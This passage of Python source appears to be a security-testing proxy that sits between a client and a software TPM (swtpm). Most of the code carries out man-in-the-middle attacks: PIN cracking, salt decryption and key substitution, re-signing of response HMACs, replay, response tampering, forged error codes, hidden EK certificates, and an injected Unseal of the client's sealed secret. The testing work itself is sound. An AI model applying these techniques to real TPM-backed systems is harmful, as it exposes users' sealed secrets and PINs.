                    self.report_pin(cap, p, t, au, tried + n)
                else:
                    self.findings.add("pin_crack", {"command": cap.command, "session": cap.session,
                                                    "result": "not found", "tried": tried + n})
                self.findings.write()
            th = threading.Thread(target=work, daemon=True)
            th.start()
            self.crack_threads.append(th)
        else:
            self.findings.add("pin_crack", {"command": cap.command, "session": cap.session,
                                            "result": "not found", "tried": tried})
        return None

    def report_pin(self, cap, pin, tname, auth, tried):
        self.findings.add("pin_crack", {"command": cap.command, "session": cap.session, "result": "found",
                                        "tried": tried})
        self.findings.add("pins", {"pin": pin, "transform": tname, "command": cap.command,
                                   "session": cap.session})
        if auth not in self.known_auths:
            self.known_auths.append(auth)
        self.attack(attack="pin-crack", command=cap.command, session=cap.session, transform=tname)

    def pre_start_session(self, upstream, cmd, ctx):
        tpm_key, bind = cmd.handles
        rd = tw.Reader(cmd.params)
        nonce_caller = rd.tpm2b(64)
        enc_salt = rd.tpm2b()
        type_ = rd.u8()
        sym = tw.read_sym_def(rd)
        auth_hash = rd.u16()
        rd.done()
        info = {"nonce_caller": nonce_caller, "type": type_, "sym": sym, "auth_hash": auth_hash,
                "tpm_key": tpm_key, "bind": bind, "client_salt": b"", "tpm_salt": b"", "opaque": False,
                "fake": None, "bind_auth": b"", "bind_name": None}
        if tpm_key != tw.TPM_RH_NULL:
            real, _ = self.read_public(upstream, tpm_key)
            fk = self.fake_for(real, create=False) if real is not None and real.type == tw.TPM_ALG_ECC else None
            zk = self.zgen_keys.get((real.x, real.y)) if real is not None and real.type == tw.TPM_ALG_ECC else None
            if zk is not None:
                # The TPM computes the ECDH share of the client's ephemeral point for us.
                try:
                    er = tw.Reader(enc_salt)
                    ex, ey = tw.read_ecc_point(er)
                    er.done()
                    pw = tw.u32(tw.TPM_RS_PW) + tw.tpm2b(b"") + bytes([0]) + tw.tpm2b(b"")
                    body = (tw.u32(tpm_key) + tw.u32(len(pw)) + pw
                            + tw.tpm2b(tw.tpm2b(ex) + tw.tpm2b(ey)))
                    out = self.transact(upstream, tw.u16(tw.TPM_ST_SESSIONS) + tw.u32(10 + len(body))
                                        + tw.u32(0x154) + body)
                    _, _, rc = tw.read_header(out)
                    if rc != 0:
                        raise tw.WireError("ECDH_ZGen rc 0x%x" % rc)
                    zr = tw.Reader(out, 10)
                    zr.u32()  # parameterSize
                    pr = tw.Reader(zr.tpm2b())
                    zx, _ = tw.read_ecc_point(pr)
                    salt = tw.kdfe(zk.name_alg, zx, "SECRET", ex, zk.x, tw.digest_size(zk.name_alg) * 8)
                except (tw.WireError, ValueError) as e:
                    self.findings.add("errors", {"command": cmd.name, "error": "zgen: %s" % e})
                    info["opaque"] = True
                else:
                    info.update(client_salt=salt, tpm_salt=salt, fake=LoadedKey(zk, None))
                    self.attack(attack="salt-zgen", salted_to=hh(tpm_key), name=hx(zk.name()))
            elif fk is not None and fk.loaded:
                # The TPM decrypts the same salt with the proxy's own loaded key.
                try:
                    client_salt = tw.ecc_salt_decrypt(fk.private, fk.fake, enc_salt)
                except (tw.WireError, ValueError) as e:
                    self.findings.add("errors", {"command": cmd.name, "error": "salt: %s" % e})
                    info["opaque"] = True
                else:
                    info.update(client_salt=client_salt, tpm_salt=client_salt, fake=fk)
                    self.attack(attack="salt-decrypt", salted_to=hh(tpm_key), fake_name=hx(fk.fake_name))
            elif (fk is not None and "substitute" in self.modes
                  and (self.args.substitute_first is None or tpm_key in self.substituted_handles)):
                try:
                    client_salt = tw.ecc_salt_decrypt(fk.private, fk.fake, enc_salt)
                    tpm_salt, enc2 = tw.ecc_salt_encrypt(fk.real)
                except (tw.WireError, ValueError) as e:
                    self.findings.add("errors", {"command": cmd.name, "error": "salt: %s" % e})
                    info["opaque"] = True
                else:
                    info.update(client_salt=client_salt, tpm_salt=tpm_salt, fake=fk)
                    cmd.params = (tw.tpm2b(nonce_caller) + tw.tpm2b(enc2) + bytes([type_])
                                  + tw.marshal_sym_def(sym) + tw.u16(auth_hash))
                    self.attack(attack="salt-reencrypt", salted_to=hh(tpm_key), fake_name=hx(fk.fake_name),
                                real_name=hx(fk.real_name))
            else:
                info["opaque"] = True
        if bind != tw.TPM_RH_NULL:
            info["bind_name"] = self.real_name_of(upstream, bind)
            # The bind entity's authValue is taken as empty (most salt/bind
            # entities are SRKs and hierarchies without auth).
        ctx.start = info

    # -- sessions: response side --

    def postprocess(self, upstream, ctx, resp):
        cmd = ctx.cmd
        if resp.rc != 0 or not resp.parsed:
            return
        if cmd.cc == 0x176 and ctx.start is not None:
            self.post_start_session(cmd, ctx.start, resp)
            return
        if cmd.cc != 0x131 and resp.handles:
            # A handle reused by ContextLoad, Load...: not a substituted primary any more.
            self.substituted_handles.discard(resp.handles[0])
        if self.redirect_null_primary(upstream, cmd, resp):
            return
        params = resp.params
        enc_i = next((i for i, a in enumerate(cmd.auths) if a.attrs & tw.TPMA_SESSION_ENCRYPT), None)
        plain = None
        encrypted_by = None
        if enc_i is not None:
            s = self.sessions.get(cmd.auths[enc_i].handle)
            if s is not None and s.known and enc_i in ctx.session_auth:
                auth = tw.strip_auth(ctx.session_auth[enc_i])
                try:
                    ct, rest = tw.split_first_tpm2b(params)
                    pt = tw.param_crypt(s.sym, s.auth_hash, s.tpm_key + auth, resp.auths[enc_i].nonce,
                                        cmd.auths[enc_i].nonce, ct, False)
                    self.note_plaintext(cmd, "response", s.handle, pt)
                    plain = tw.tpm2b(pt) + rest
                    encrypted_by = (s, auth)
                except tw.WireError as e:
                    self.findings.add("errors", {"command": cmd.name, "error": "decrypt: %s" % e})
        else:
            plain = params
            self.note_clear(cmd, "response", params)
        # Substitution works on the plaintext parameters.
        new_plain = None
        if plain is not None and cmd.cc in (0x131, 0x173):
            try:
                new_plain = self.substitute_response_params(cmd, plain)
            except tw.WireError as e:
                self.findings.add("errors", {"command": cmd.name, "error": "substitute: %s" % e})
            if cmd.cc == 0x131 and resp.handles:
                if new_plain is not None:
                    self.substituted_handles.add(resp.handles[0])
                else:
                    self.substituted_handles.discard(resp.handles[0])
        if new_plain is None and cmd.cc in (0x131, 0x173) and plain is None and "substitute" in self.modes:
            self.findings.add("errors", {"command": cmd.name, "error": "response encrypted under an unknown key"})
        if new_plain is not None or (encrypted_by is not None and encrypted_by[0].mitm):
            body = new_plain if new_plain is not None else plain
            if encrypted_by is not None:
                s, auth = encrypted_by
                ct, rest = tw.split_first_tpm2b(body)
                ct2 = tw.param_crypt(s.sym, s.auth_hash, s.client_key + auth, resp.auths[enc_i].nonce,
                                     cmd.auths[enc_i].nonce, ct, True)
                body = tw.tpm2b(ct2) + rest
            resp.params = body
            ctx.params_changed = True
        # Response HMACs for the client.
        extra = b""
        for i, a in enumerate(cmd.auths):
            s = self.sessions.get(a.handle)
            if not resp.auths[i].hmac:
                continue
            if s is None or not s.known:
                if ctx.params_changed:
                    # A swapped response in a session the proxy cannot key: the client sees a bad HMAC.
                    self.findings.add("hmac_untranslated", {"command": cmd.name, "session": hh(a.handle),
                                                            "reason": "response changed in an opaque session"})
                continue
            if not (s.mitm or ctx.params_changed):
                continue
            if i not in ctx.session_auth:
                self.findings.add("hmac_untranslated", {"command": cmd.name, "session": hh(a.handle),
                                                        "reason": "response HMAC: authValue unknown"})
                continue
            rp = tw.rp_hash(s.auth_hash, 0, cmd.cc, resp.params)
            ra = resp.auths[i]
            ra.hmac = tw.session_hmac(s.auth_hash, s.client_key + tw.strip_auth(ctx.session_auth[i]), rp,
                                      ra.nonce, a.nonce, extra, ra.attrs)

    def post_start_session(self, cmd, info, resp):
        handle = resp.handles[0]
        rd = tw.Reader(resp.params)
        nonce_tpm = rd.tpm2b(64)
        s = Session(handle, info["type"], info["auth_hash"], info["sym"])
        s.nonce_tpm = nonce_tpm
        s.bind_name = info["bind_name"]
        s.salt_key = info["fake"]
        self.sessions[handle] = s
        if info["opaque"]:
            self.log("session %s is salted to a key the proxy does not hold: opaque", hh(handle))
            self.findings.add("opaque_sessions", {"session": hh(handle), "salted_to": hh(info["tpm_key"]),
                                                  "bind": hh(info["bind"])})
            return
        try:
            s.client_key = tw.session_key(s.auth_hash, info["bind_auth"], info["client_salt"], nonce_tpm,
                                          info["nonce_caller"])
            s.tpm_key = tw.session_key(s.auth_hash, info["bind_auth"], info["tpm_salt"], nonce_tpm,
                                       info["nonce_caller"])
        except tw.WireError as e:
            self.findings.add("errors", {"command": cmd.name, "error": "session key: %s" % e})
            return
        if info["fake"] is not None:
            via = "salt to substituted key"
        elif info["bind"] != tw.TPM_RH_NULL:
            via = "unsalted, bound (bind authValue assumed empty)"
        else:
            via = "unsalted, unbound"
        # "verified" turns true once a command HMAC checks out under this key,
        # which proves the derivation (a bound session's bind authValue is a guess).
        s.entry = {
            "session": hh(handle), "type": {0: "hmac", 1: "policy", 3: "trial"}.get(s.type, s.type),
            "auth_hash": tw.HASHES.get(s.auth_hash, s.auth_hash), "salted_to": hh(info["tpm_key"]),
            "bind": hh(info["bind"]), "via": via, "salt": hx(info["client_salt"]),
            "session_key": hx(s.client_key), "tpm_salt": hx(info["tpm_salt"]), "tpm_session_key": hx(s.tpm_key),
            "verified": False}
        self.findings.add("session_keys", s.entry)

    def update_sessions(self, ctx, resp):
        cmd = ctx.cmd
        if resp.rc == 0 and resp.parsed:
            for i, a in enumerate(cmd.auths):
                s = self.sessions.get(a.handle)
                if s is None:
                    continue
                s.nonce_tpm = resp.auths[i].nonce
                if not resp.auths[i].attrs & tw.TPMA_SESSION_CONTINUE:
                    del self.sessions[a.handle]
            if cmd.cc == 0x165 and len(cmd.params) == 4:
                self.sessions.pop(struct.unpack(">I", cmd.params)[0], None)
            elif cmd.cc == 0x16B and cmd.handles[0] in self.sessions:
                self.sessions[cmd.handles[0]].policy_auth_value = True
            elif cmd.cc == 0x18C and cmd.handles[0] in self.sessions:
                self.sessions[cmd.handles[0]].policy_password = True
            elif cmd.cc == 0x180 and cmd.handles[0] in self.sessions:
                s = self.sessions[cmd.handles[0]]
                s.policy_auth_value = s.policy_password = False

    # -- one command --

    def reload_mutate_spec(self):
        """--mutate-spec: re-read at every client connection; a changed spec starts a new generation."""
        if "mutate" not in self.modes or not self.args.mutate_spec:
            return
        try:
            with open(self.args.mutate_spec) as f:
                raw = f.read()
        except OSError:
            raw = ""
        if raw == self.mutate_spec_raw:
            return
        self.mutate_spec_raw = raw
        self.mutate_spec = json.loads(raw) if raw.strip() else None
        self.mutate_responses = 0
        self.mutate_command_count = 0
        self.mutate_generation += 1
        self.findings.data["mutate"] = {"spec": self.mutate_spec, "responses": 0,
                                        "generation": self.mutate_generation}

    def mutate_response(self, cc, seq, out):
        """mutate mode: the response numbered spec.at (1-based, counted over this generation)."""
        self.mutate_responses += 1
        self.findings.data.setdefault("mutate", {})["responses"] = self.mutate_responses
        spec = self.mutate_spec
        if out is None or not spec:
            return out, False
        if spec.get("command"):
            # {"command": "Unseal", "nth": 1}: the nth response to that command (regression specs
            # stay valid when the operation's command sequence changes).
            if tw.cc_name(cc) != spec["command"]:
                return out, False
            self.mutate_command_count += 1
            if self.mutate_command_count != spec.get("nth", 1):
                return out, False
        elif spec.get("at") != self.mutate_responses:
            return out, False
        rng = mt.rng_for(spec.get("seed", 0), spec.get("at") or spec.get("command"))
        new, desc, close_after, touched = mt.mutate(out, cc, rng, spec.get("kind"))
        self.attack(attack="mutate", command=tw.cc_name(cc), response=self.mutate_responses, seq=seq,
                    seed=spec.get("seed", 0), generation=self.mutate_generation, mutation=desc,
                    close_after=close_after, original=out.hex())
        return new, close_after

    def count(self, cc):
        self.cc_counts[cc] = self.cc_counts.get(cc, 0) + 1
        return self.cc_counts[cc]

    @staticmethod
    def matches(spec, cc, n):
        want_cc, want_n = spec
        return want_cc == cc and (want_n is None or want_n == n)

    def handle(self, conn_id, upstream, raw):
        """Returns (response bytes or None to close the client, post-send action or None)."""
        with self.lock:
            self.seq += 1
            seq = self.seq
            self.findings.bump("commands")
            try:
                cmd = tw.Command(raw)
            except tw.WireError as e:
                self.findings.add("errors", {"seq": seq, "error": "command: %s" % e})
                cmd = None
            cc = cmd.cc if cmd else tw.read_header(raw)[2]
            n = self.count(cc)
            self.record({"seq": seq, "conn": conn_id, "dir": "command", "cc": hh(cc), "command": tw.cc_name(cc),
                         "hex": raw.hex(), "handles": [hh(h) for h in (cmd.handles if cmd else [])],
                         "sessions": [{"handle": hh(a.handle), "attrs": a.attrs,
                                       "attr_names": session_attr_names(a.attrs), "nonce": hx(a.nonce),
                                       "hmac": hx(a.hmac)} for a in (cmd.auths if cmd else [])]})
            ctx = CommandContext(cmd) if cmd else None
            to_tpm = raw
            if "redirect-salt" in self.modes and cmd is not None and cmd.known and cc == 0x176:
                self.redirect_salt(cmd, seq)
                to_tpm = raw = cmd.marshal()
            if "swap-context" in self.modes and cmd is not None and cmd.known and cc == 0x161 \
                    and not self.context_swapped and self.swap_context(upstream, cmd, seq):
                to_tpm = raw = cmd.marshal()
            if "extend-before" in self.modes and any(self.matches(spec, cc, n) for spec in self.args.extend_before):
                self.extend_before(upstream, cc, n, seq)
            if cmd is not None and cmd.known:
                try:
                    self.preprocess(upstream, cmd, ctx)
                    to_tpm = cmd.marshal()
                except (OSError, TimeoutError):
                    raise
                except Exception as e:  # a malformed command is forwarded untouched
                    self.findings.add("errors", {"seq": seq, "command": cmd.name,
                                                 "error": "command: %s: %s" % (type(e).__name__, e)})
                    to_tpm = raw
            upstream_resp = self.transact(upstream, to_tpm)
            if cc == 0x182 and tw.read_header(upstream_resp)[2] == 0:
                self.pcr_extends.append(to_tpm)
            if "inject-unseal" in self.modes and cmd is not None and cmd.known:
                try:
                    if self.inject_observe(cmd, upstream_resp):
                        self.inject_unseal(upstream)
                except tw.WireError as e:
                    self.findings.add("errors", {"seq": seq, "command": cmd.name, "error": "inject-unseal: %s" % e})
            out = upstream_resp
            resp = None
            if cmd is not None and cmd.known:
                try:
                    resp = tw.Response(upstream_resp, cc, len(cmd.auths))
                    self.postprocess(upstream, ctx, resp)
                    self.update_sessions(ctx, resp)
                    out = resp.marshal()
                except (OSError, TimeoutError):
                    raise
                except Exception as e:  # a malformed response is forwarded untouched
                    self.findings.add("errors", {"seq": seq, "command": cmd.name,
                                                 "error": "response: %s: %s" % (type(e).__name__, e)})
                    out = upstream_resp
            action = None
            out = self.active_modes(cc, n, seq, out, cmd)
            if "mutate" in self.modes:
                out, close_after = self.mutate_response(cc, seq, out)
                if close_after:
                    action = "close"
            rc = tw.read_header(out)[2] if out else None
            if rc == 0:
                self.ok_counts[cc] = self.ok_counts.get(cc, 0) + 1
            # After the Nth *successful* CC: a resource manager's TPM_RC_RETRY (or any
            # failure) is not the moment the attacker waits for (e.g. the secret unsealed).
            if out is not None and rc == 0 and "reset" in self.modes and self.args.reset_after \
                    and self.matches(self.args.reset_after, cc, self.ok_counts[cc]):
                action = "reset"
            self.record({"seq": seq, "conn": conn_id, "dir": "response", "cc": hh(cc), "command": tw.cc_name(cc),
                         "rc": hh(rc) if rc is not None else None, "hex": out.hex() if out else None,
                         "upstream_hex": upstream_resp.hex() if out != upstream_resp else None,
                         "sessions": [{"nonce": hx(a.nonce), "attrs": a.attrs, "hmac": hx(a.hmac)}
                                      for a in (resp.auths if resp is not None and resp.parsed else [])]})
            self.findings.write()
            return out, action

    # -- issue 29: a PCR race, a redirected salt, a flipped response HMAC --

    def extend_before(self, upstream, cc, n, seq):
        """Another process extends a PCR just before the client's command reaches the TPM (between its
        PolicyPCR and its Unseal, for --extend-before Unseal): TPM2_PCR_Extend(--extend-pcr) in a
        password session (a PCR's authValue is empty), SHA-256 of a counter."""
        digest = hashlib.sha256(b"extend-before %d" % seq).digest()
        area = tw.u32(tw.TPM_RS_PW) + tw.u16(0) + bytes([1]) + tw.u16(0)
        body = tw.u32(self.args.extend_pcr) + tw.u32(len(area)) + area + tw.u32(1) + tw.u16(0x000B) + digest
        raw = tw.u16(tw.TPM_ST_SESSIONS) + tw.u32(10 + len(body)) + tw.u32(0x182) + body
        rc = tw.read_header(self.transact(upstream, raw))[2]
        self.attack(attack="extend-before", command=tw.cc_name(cc), occurrence=n, pcr=self.args.extend_pcr,
                    rc=hh(rc), seq=seq)

    def redirect_salt(self, cmd, seq):
        """StartAuthSession's tpmKey pointed at another loaded key (--redirect-salt-to): the TPM decrypts
        the client's salt with the wrong private key and derives a session key the client does not have.
        Sessions of --redirect-salt-type only (policy: the unlock's PIN-bearing session)."""
        if not cmd.handles or cmd.handles[0] == tw.TPM_RH_NULL:
            return
        r = tw.Reader(cmd.params)
        r.tpm2b(64)
        r.tpm2b(1024)
        se = r.u8()
        want = {"policy": (tw.TPM_SE_POLICY,), "hmac": (tw.TPM_SE_HMAC,), "any": (tw.TPM_SE_POLICY, tw.TPM_SE_HMAC)}
        if se not in want[self.args.redirect_salt_type]:
            return
        self.attack(attack="redirect-salt", command="StartAuthSession", session_type=se,
                    tpm_key=hh(cmd.handles[0]), redirected_to=hh(self.args.redirect_salt_to), seq=seq)
        cmd.handles[0] = self.args.redirect_salt_to

    def swap_context(self, upstream, cmd, seq):
        """The Nth (--swap-context-at) ContextLoad of a NULL-hierarchy object (a client's saved NULL key, e.g.
        tpmguard's per-boot cache) loads another key instead: an ECC P-256 restricted decrypt NULL
        primary of the proxy's own (another unique), saved with ContextSave. The client's
        ESYS_TR keeps the cached name and public area; the TPM holds another private key, so a
        session salted to it has a session key the client does not have."""
        r = tw.Reader(cmd.params)
        r.take(8)
        saved, hierarchy = r.u32(), r.u32()
        if hierarchy != tw.TPM_RH_NULL or saved >> 24 != 0x80:
            return False
        self.null_context_loads += 1
        if self.null_context_loads != self.args.swap_context_at:
            return False
        ecc = (tw.u16(0x0023) + tw.u16(0x000B) + tw.u32(0x00030072) + tw.u16(0) +
               tw.u16(0x0006) + tw.u16(128) + tw.u16(0x0043) + tw.u16(0x0010) + tw.u16(0x0003) + tw.u16(0x0010) +
               tw.tpm2b(b"swap-context".ljust(32, b"\0")) + tw.u16(0))
        area = tw.u32(tw.TPM_RS_PW) + tw.u16(0) + bytes([1]) + tw.u16(0)
        body = (tw.u32(tw.TPM_RH_NULL) + tw.u32(len(area)) + area + tw.tpm2b(tw.u16(0) + tw.u16(0)) +
                tw.tpm2b(ecc) + tw.u16(0) + tw.u32(0))
        resp = self.transact(upstream, tw.u16(tw.TPM_ST_SESSIONS) + tw.u32(10 + len(body)) + tw.u32(0x131) + body)
        if tw.read_header(resp)[2] != 0:
            self.findings.add("errors", {"seq": seq, "error": "swap-context: CreatePrimary rc %s" %
                                         hh(tw.read_header(resp)[2])})
            return False
        handle = struct.unpack(">I", resp[10:14])[0]
        saved_resp = self.transact(upstream, tw.build_command(0x162, handles=(handle,)))
        self.transact(upstream, tw.build_command(0x165, params=tw.u32(handle)))
        if tw.read_header(saved_resp)[2] != 0:
            self.findings.add("errors", {"seq": seq, "error": "swap-context: ContextSave failed"})
            return False
        cmd.params = saved_resp[10:]
        self.context_swapped = True
        self.attack(attack="swap-context", command="ContextLoad", saved_handle=hh(saved), seq=seq)
        return True

    def tamper_hmac(self, cc, n, seq, out, cmd):
        """Flips a bit of the first response HMAC of a successful response to CC (--tamper-hmac CC[:N])."""
        if cmd is None or not any(self.matches(spec, cc, n) for spec in self.args.tamper_hmac):
            return out
        try:
            resp = tw.Response(out, cc, len(cmd.auths))
        except tw.WireError:
            return out
        for a in resp.auths if resp.parsed else []:
            if a.hmac:
                a.hmac = bytes([a.hmac[0] ^ 0x01]) + a.hmac[1:]
                self.attack(attack="tamper-hmac", command=tw.cc_name(cc), occurrence=n, seq=seq)
                return resp.marshal()
        return out

    def active_modes(self, cc, n, seq, out, cmd=None):
        name = tw.cc_name(cc)
        if "tamper-hmac" in self.modes and out is not None:
            out = self.tamper_hmac(cc, n, seq, out, cmd)
        if "hide-ek-certs" in self.modes and cc == 0x17A and cmd is not None and len(cmd.params) >= 12:
            # GetCapability(TPM_CAP_HANDLES) from an index of the EK certificate range: answered
            # "no handles", as by a TPM without EK certificates, so that a client that trusts the
            # answer offers trust on first use to a TPM that has certificates. The answer carries
            # no session area: a client that asked in an audit session must refuse it.
            cap, prop = struct.unpack(">II", cmd.params[:8])
            if cap == 1 and EK_CERT_NV_FIRST <= prop <= EK_CERT_NV_LAST and tw.read_header(out)[2] == 0:
                body = b"\x00" + struct.pack(">II", 1, 0)
                out = struct.pack(">HII", tw.TPM_ST_NO_SESSIONS, 10 + len(body), 0) + body
                self.attack(attack="hide-ek-certs", command=name, property=hh(prop), seq=seq)
        if "replay" in self.modes:
            for spec in self.args.replay:
                if spec[0] != cc:
                    continue
                stored = self.replay_store.get(cc)
                if stored is None:
                    if tw.read_header(out)[2] == 0:
                        self.replay_store[cc] = out
                elif spec[1] is None or n >= spec[1]:
                    self.attack(attack="replay", command=name, occurrence=n, seq=seq)
                    out = stored
        if "tamper" in self.modes:
            for tcc, off, xor, nth in self.args.tamper:
                if tcc != cc or (nth is not None and n != nth):
                    continue
                start = self.param_offset(cc, out)
                if start is None or start + off >= len(out) or (start + off) >= self.param_end(cc, out):
                    continue
                b = bytearray(out)
                b[start + off] ^= xor
                out = bytes(b)
                self.attack(attack="tamper", command=name, offset=off, xor=xor, seq=seq)
        if "forge-rc" in self.modes:
            # A well-formed error response (header only, no sessions), as the TPM would send it:
            # what the client then says is all the diagnosis the user gets.
            for fcc, fn, frc in self.args.forge_rc:
                if fcc == cc and n == fn:
                    self.attack(attack="forge-rc", command=name, occurrence=n, rc=hh(frc), seq=seq)
                    out = tw.error_response(frc)
        if "drop" in self.modes:
            for spec in self.args.drop:
                if self.matches(spec, cc, n):
                    self.attack(attack="drop", command=name, occurrence=n, action=self.args.drop_action, seq=seq)
                    out = tw.error_response(tw.TPM_RC_RETRY) if self.args.drop_action == "retry" else None
                    break
        return out

    @staticmethod
    def param_offset(cc, raw):
        tag, _, rc = tw.read_header(raw)
        if rc != 0 or cc not in tw.COMMANDS:
            return None
        off = 10 + 4 * tw.COMMANDS[cc][3]
        return off + 4 if tag == tw.TPM_ST_SESSIONS else off

    @staticmethod
    def param_end(cc, raw):
        tag, _, _ = tw.read_header(raw)
        if tag != tw.TPM_ST_SESSIONS:
            return len(raw)
        off = 10 + 4 * tw.COMMANDS[cc][3]
        return off + 4 + struct.unpack(">I", raw[off:off + 4])[0]

    # -- reset --

    def do_reset(self, upstream):
        with self.lock:
            ctrl_path = self.args.upstream + ".ctrl"
            with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as c:
                c.settimeout(self.args.timeout)
                c.connect(ctrl_path)
                c.sendall(struct.pack(">II", SWTPM_CMD_INIT, 0))
                res = recv_exact(c, 4, time.monotonic() + self.args.timeout)
            if res is None or struct.unpack(">I", res)[0] != 0:
                raise ProxyError("swtpm CMD_INIT failed: %r" % res)
            startup = self.transact(upstream, tw.build_command(0x144, params=tw.u16(0)))
            results = []
            for raw in self.pcr_extends:
                r = self.transact(upstream, raw)
                results.append(hh(tw.read_header(r)[2]))
            self.sessions.clear()
            self.attack(attack="reset", startup_rc=hh(tw.read_header(startup)[2]),
                        replayed_pcr_extends=len(self.pcr_extends), replay_rcs=results)
            self.findings.write()

    # -- connections --

    def serve_client(self, conn_id, client):
        self.findings.bump("connections")
        with self.lock:
            self.reload_mutate_spec()
        upstream = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        try:
            upstream.settimeout(self.args.timeout)
            upstream.connect(self.args.upstream)
            while not self.stop.is_set():
                try:
                    raw = read_tpm_message(client, self.args.timeout, self.stop, idle_forever=True)
                except (ProxyError, tw.WireError) as e:
                    self.findings.add("errors", {"conn": conn_id, "error": "client: %s" % e})
                    break
                if raw is None:
                    break
                out, action = self.handle(conn_id, upstream, raw)
                if out is None:
                    self.log("closing client connection %d (drop)", conn_id)
                    break
                # The reset happens before the client has the response: the client's
                # view is the same (the TPM resets between its commands), and its next
                # command (over a new connection with the swtpm TCTI) can never reach
                # swtpm in the middle of CMD_INIT and fail as an I/O error instead of
                # meeting the reset it is meant to meet.
                if action == "reset":
                    self.do_reset(upstream)
                client.sendall(out)
                if action == "close":
                    self.log("closing client connection %d (mutated response is cut short)", conn_id)
                    break
        except (OSError, ConnectionError, TimeoutError, ProxyError) as e:
            if not self.stop.is_set():
                self.findings.add("errors", {"conn": conn_id, "error": "%s: %s" % (type(e).__name__, e)})
                self.log("connection %d: %s", conn_id, e)
        finally:
            client.close()
            upstream.close()
            self.findings.write()

    # -- inject-unseal --

    def inject_observe(self, cmd, raw_resp):
        """Remembers what the injected unseal needs from the client's unlock; True when the client
        has just flushed the sealed object (after its Unseal): the moment to inject. Not at the
        close of a connection: the swtpm TCTI connects once per command."""
        tag, _, rc = tw.read_header(raw_resp)
        if rc != 0:
            return False
        if cmd.cc == 0x131 and cmd.handles == [tw.TPM_RH_OWNER]:
            # CreatePrimary: inSensitive (maybe encrypted; the proxy makes its own, empty), inPublic.
            rd = tw.Reader(cmd.params)
            rd.tpm2b()
            start = rd.pos
            rd.tpm2b()
            resp = tw.Response(raw_resp, cmd.cc, len(cmd.auths))
            if resp.handles:
                self.inject_primaries[resp.handles[0]] = cmd.params[start:rd.pos]
        elif cmd.cc == 0x157:
            # Load: inPrivate (sealed by the parent, sent as is), inPublic; only a sealed data object.
            rd = tw.Reader(cmd.params)
            in_private = rd.tpm2b()
            start = rd.pos
            pub = rd.tpm2b()
            resp = tw.Response(raw_resp, cmd.cc, len(cmd.auths))
            if len(pub) >= 2 and struct.unpack(">H", pub[:2])[0] == tw.TPM_ALG_KEYEDHASH and resp.handles \
                    and not self.inject_done:
                parent = cmd.handles[0]
                self.inject_target = {"handle": resp.handles[0], "parent": parent,
                                      "parent_public": self.inject_primaries.get(parent),
                                      "in_private": in_private, "in_public": cmd.params[start:rd.pos]}
        elif cmd.cc == 0x176:
            # A new policy session: its PolicyPCR and PolicyAuthValue may come before the Load (the
            # plugin's unlock since issue 18) or after it (enrolment, lifecycle, older clients).
            rd = tw.Reader(cmd.params)
            rd.tpm2b()
            rd.tpm2b()
            if rd.pos < len(cmd.params) and cmd.params[rd.pos] == tw.TPM_SE_POLICY:
                self.inject_pcrs = None
                self.inject_needs_auth = False
        elif cmd.cc == 0x17F:
            rd = tw.Reader(cmd.params)
            rd.tpm2b()
            self.inject_pcrs = cmd.params[rd.pos:]
        elif cmd.cc in (0x16B, 0x18C):
            self.inject_needs_auth = True
        elif cmd.cc == 0x165 and self.inject_target and not self.inject_done \
                and cmd.params == tw.u32(self.inject_target["handle"]):
            self.inject_done = True
            return True
        return False

    @staticmethod
    def pw_command(cc, handles, params):
        """A command with one empty password session (TPM_RS_PW)."""
        auth = tw.AuthCommand(tw.TPM_RS_PW, b"", 0, b"").marshal()
        body = b"".join(tw.u32(h) for h in handles) + tw.u32(len(auth)) + auth + params
        return tw.u16(tw.TPM_ST_SESSIONS) + tw.u32(10 + len(body)) + tw.u32(cc) + body

    def inject_unseal(self, upstream):
        """The attack: Load, PolicyPCR and Unseal of the client's sealed object, in the proxy's own
        unsalted, unbound policy session (no key to verify, no secret but the object's authValue)."""
        t = self.inject_target
        steps = []
        made = []  # handles to flush

        def step(name, raw):
            resp = self.transact(upstream, raw)
            rc = tw.read_header(resp)[2]
            steps.append({"command": name, "rc": hh(rc)})
            self.record({"seq": None, "conn": "inject", "dir": "command", "command": name, "hex": raw.hex(),
                         "injected": True})
            self.record({"seq": None, "conn": "inject", "dir": "response", "command": name, "rc": hh(rc),
                         "hex": resp.hex(), "injected": True})
            return resp, rc

        result, unsealed = "refused", None
        try:
            parent = t["parent"]
            if parent >> 24 == 0x80:
                if not t["parent_public"]:
                    result = "no parent: its CreatePrimary was not seen"
                    return
                params = tw.tpm2b(tw.tpm2b(b"") + tw.tpm2b(b"")) + t["parent_public"] + tw.tpm2b(b"") + tw.u32(0)
                resp, rc = step("CreatePrimary", self.pw_command(0x131, [tw.TPM_RH_OWNER], params))
                if rc != 0:
                    return
                parent = tw.Response(resp, 0x131, 1).handles[0]
                made.append(parent)
            resp, rc = step("Load", self.pw_command(0x157, [parent], tw.tpm2b(t["in_private"]) + t["in_public"]))
            if rc != 0:
                return
            r = tw.Response(resp, 0x157, 1)
            obj = r.handles[0]
            obj_name = tw.Reader(r.params).tpm2b()
            made.append(obj)
            nonce_caller = os.urandom(32)
            params = (tw.tpm2b(nonce_caller) + tw.tpm2b(b"") + bytes([0x01]) + tw.u16(tw.TPM_ALG_NULL)
                      + tw.u16(tw.TPM_ALG_SHA256))
            resp, rc = step("StartAuthSession", tw.build_command(0x176, [tw.TPM_RH_NULL, tw.TPM_RH_NULL], params))
            if rc != 0:
                return
            r = tw.Response(resp, 0x176, 0)
            session = r.handles[0]
            nonce_tpm = tw.Reader(r.params).tpm2b()
            made.append(session)
            if self.inject_pcrs is not None:
                resp, rc = step("PolicyPCR", tw.build_command(0x17F, [session], tw.tpm2b(b"") + self.inject_pcrs))
                if rc != 0:
                    return
            if self.inject_needs_auth:
                # PolicyAuthValue would need the object's authValue for Unseal's HMAC: the PIN's,
                # which this proxy does not hold. Without it the policy digest does not match.
                steps.append({"command": "PolicyAuthValue", "skipped": "the object's authValue (PIN) is unknown"})
            # Unseal: the session key is empty (unsalted, unbound) and no authValue is in the policy.
            nonce = os.urandom(32)
            attrs = 0
            cp = tw.cp_hash(tw.TPM_ALG_SHA256, 0x15E, [obj_name], b"")
            mac = tw.session_hmac(tw.TPM_ALG_SHA256, b"", cp, nonce, nonce_tpm, b"", attrs)
            auth = tw.AuthCommand(session, nonce, attrs, mac).marshal()
            body = tw.u32(obj) + tw.u32(len(auth)) + auth
            raw = tw.u16(tw.TPM_ST_SESSIONS) + tw.u32(10 + len(body)) + tw.u32(0x15E) + body
            resp, rc = step("Unseal", raw)
            if rc != 0:
                return
